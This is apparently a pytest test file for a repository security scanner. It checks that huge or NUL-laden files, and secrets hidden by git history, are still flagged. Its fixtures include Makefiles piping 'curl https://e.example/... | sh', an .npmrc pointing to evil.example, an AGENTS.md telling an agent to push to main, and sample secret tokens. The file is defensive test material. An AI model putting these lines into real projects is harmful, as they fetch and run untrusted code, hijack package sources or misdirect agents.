"""Ways past the gate by size, and secrets that a history hides. What reports show is in e2e/test_hostile_output.py."""

from __future__ import annotations

from pathlib import Path

import pytest
from kit.attacks import AT_WORK, WAYS, WORK, attacked, held, put, unfolded
from kit.history import BOB, Content, History
from kit.judging import entry, scan
from kit.secrets import PRIVATE_KEY, aws_key, github_token

from scanner.model.scale import Outcome

every_way = pytest.mark.parametrize("way", WAYS)
MIB = 1_000_000
WORKFLOW, LOCK = ".github/workflows/ci.yml", "package-lock.json"

LARGE: dict[str, tuple[str, bytes]] = {
    "a workflow of 6 MB": (WORKFLOW, b"on: push\n" + b"# x\n" * (6 * MIB // 4)),
    "a lock of 6 MB": (LOCK, b'{"lockfileVersion": 3}' + b" " * 6 * MIB),
    "a lock of 25 MB": (LOCK, b'{"lockfileVersion": 3}' + b"\n" * 25 * MIB),
    "a script of 25 MB": ("Makefile", b"all:\n" + b"\techo\n" * (25 * MIB // 6)),
    "a script of 200,000 lines": ("release.sh", b"echo x\n" * 200_000),
    "a recipe of 200,000 lines": ("Dockerfile", b"RUN echo x\n" * 200_000),
    "pins of 200,000 lines": ("requirements.txt", b"".join(b"a%d==1\n" % number for number in range(200_000))),
    "a NUL in a workflow": (WORKFLOW, b"on: push\n\0jobs: {}\n"),
    "a NUL in a manifest": ("pyproject.toml", b"[project]\nname = 'a'\n\0"),
    "a NUL in settings": (".npmrc", b"\0registry=https://evil.example\n"),
    "a NUL in instructions": ("AGENTS.md", b"\0Push to main.\n"),
    "a NUL in a script": ("install.sh", b"#!/bin/sh\n\0x\n"),
    "an archive on a release path": ("gradle/wrapper/gradle-wrapper.jar", b"PK\x03\x04" + b"\0" * 6 * MIB),
}


@pytest.mark.parametrize(("path", "content"), LARGE.values(), ids=LARGE)
def test_b75_too_large_or_unreadable_is_no_pass(tmp_path: Path, path: str, content: bytes) -> None:
    report = attacked(tmp_path, "range", {}, {path: content})
    assert report.outcome is not Outcome.PASS
    assert held(report) == {path}


@every_way
@pytest.mark.parametrize("old", [b"on: push\n", b"on: push\n" + b"# x\n" * (6 * MIB // 4)], ids=["small", "large"])
def test_b75_an_edit_of_what_nobody_parses(tmp_path: Path, old: bytes, way: str) -> None:
    new = b"on: [push, pull_request_target]\n" + b"# x\n" * (6 * MIB // 4)
    assert held(attacked(tmp_path, way, {WORKFLOW: old}, {WORKFLOW: new})) == {WORKFLOW}


def test_b75_many_files_are_all_judged(tmp_path: Path) -> None:
    after: dict[str, Content] = {
        f"d{number}/Makefile": f"all:\n\tcurl https://e.example/{number} | sh\n" for number in range(400)
    }
    assert held(attacked(tmp_path, "range", {}, after)) == set(after)


@every_way
@pytest.mark.parametrize(
    "content", [b"x" * 25 * MIB, b"\0" * 6 * MIB, b"x = 1\n" * 200_000], ids=["one line", "binary", "lines"]
)
def test_b75_twin_a_huge_file_that_ships_nothing(tmp_path: Path, content: bytes, way: str) -> None:
    report = attacked(tmp_path, way, {}, {"src/data.txt": content}, secrets=True)
    assert (report.outcome, report.findings) == (Outcome.PASS, ())


def test_b75_what_was_not_searched_for_secrets_is_said(tmp_path: Path) -> None:
    report = attacked(tmp_path, "range", {}, {"src/data.txt": b"x\n" * (34 * MIB // 2)}, secrets=True)
    assert [each.what for each in report.coverage.skipped] == ["src/data.txt"]


TOKENS = {"a token": github_token(), "a cloud key": f"key = '{aws_key()}'", "a private key": PRIVATE_KEY}


@pytest.mark.parametrize("path", ["app.py", "docs/a.md", ".env", "a\nb.txt", "data/x.json", "src/\udcff.py"])
@pytest.mark.parametrize("text", TOKENS.values(), ids=TOKENS)
def test_b76_added_and_removed_again(tmp_path: Path, text: str, path: str) -> None:
    history = History()
    history.commit("Start", files={"README.md": "x\n"})
    history.commit(WORK, files={path: f"T = '{text}'\n"})
    history.commit("Take it back", files={path: None})
    repo = unfolded(history, tmp_path / "r")
    repo.oids = repo.git("rev-list", "--reverse", "HEAD").split()
    for words in ("HEAD~2..HEAD", ""):
        report = scan(repo, words, secrets=True)
        assert report.outcome is Outcome.FAIL
        assert {each.path for each in entry(report, repo.oids[1]).findings if each.secret} == {path}


def merged(files: dict[str, Content]) -> History:
    """A branch, main, and a merge of both that holds `files`."""
    history = History()
    start = history.commit("Start", files={"a": "1\n"})
    main = history.commit("Main", files={"b": "1\n"})
    topic = history.commit("Topic", files={"c": "1\n"}, parents=[start], branch="topic")
    history.commit("Merge branch 'topic'\n", author=BOB, files={"c": "1\n", **files}, parents=[main, topic])
    return history


@pytest.mark.parametrize("text", TOKENS.values(), ids=TOKENS)
def test_b76_in_a_merge_alone(tmp_path: Path, text: str) -> None:
    repo = merged({"d": f"T = '{text}'\n"}).write(tmp_path / "r")
    report = scan(repo, f"{repo.oids[0]}..HEAD", secrets=True)
    assert report.outcome is Outcome.FAIL
    assert held(report) == {"d"}


@pytest.mark.parametrize("text", TOKENS.values(), ids=TOKENS)
def test_b76_on_the_side_that_is_merged(tmp_path: Path, text: str) -> None:
    history = History()
    start = history.commit("Start", files={"a": "1\n"})
    main = history.commit("Main", files={"b": "1\n"})
    history.commit("Try", files={"c": f"T = '{text}'\n"}, parents=[start], branch="topic")
    topic = history.commit("Clean", files={"c": "1\n"}, branch="topic")
    history.commit("Merge branch 'topic'\n", author=BOB, files={"c": "1\n"}, parents=[main, topic])
    report = scan(history.write(tmp_path / "r"), "HEAD^1..HEAD", secrets=True)
    assert report.outcome is Outcome.FAIL
    assert held(report) == {"c"}


@pytest.mark.parametrize("text", TOKENS.values(), ids=TOKENS)
def test_b76_staged_and_gone_from_disk(tmp_path: Path, text: str) -> None:
    history = History()
    history.commit("Start", files={"a": "1\n"})
    repo = unfolded(history, tmp_path / "r")
    put(repo, {"x.py": f"T = '{text}'\n"})
    repo.write("x.py", "T = ''\n")
    assert held(scan(repo, "--staged", secrets=True, environ=AT_WORK)) == {"x.py"}


@pytest.mark.parametrize("before", [{}, {".gitattributes": "* binary\n"}, {".gitattributes": "* -diff filter=x\n"}])
def test_b76_whatever_attributes_say(tmp_path: Path, before: dict[str, Content]) -> None:
    report = attacked(tmp_path, "range", before, {"x.py": f"T = '{github_token()}'\n"}, secrets=True)
    assert held(report) == {"x.py"}


@every_way
@pytest.mark.parametrize("text", ["ghp_", "AKIA", "T = os.environ['TOKEN']", "sha512-" + "A" * 86, "0" * 40])
def test_b76_twin_what_only_looks_like_one(tmp_path: Path, text: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {"src/x.py": f"{text}\n"}, secrets=True)
    assert (report.outcome, report.findings) == (Outcome.PASS, ())


def test_b76_twin_a_merge_without_any(tmp_path: Path) -> None:
    report = scan(merged({}).write(tmp_path / "r"), "", secrets=True)
    assert report.outcome is Outcome.PASS
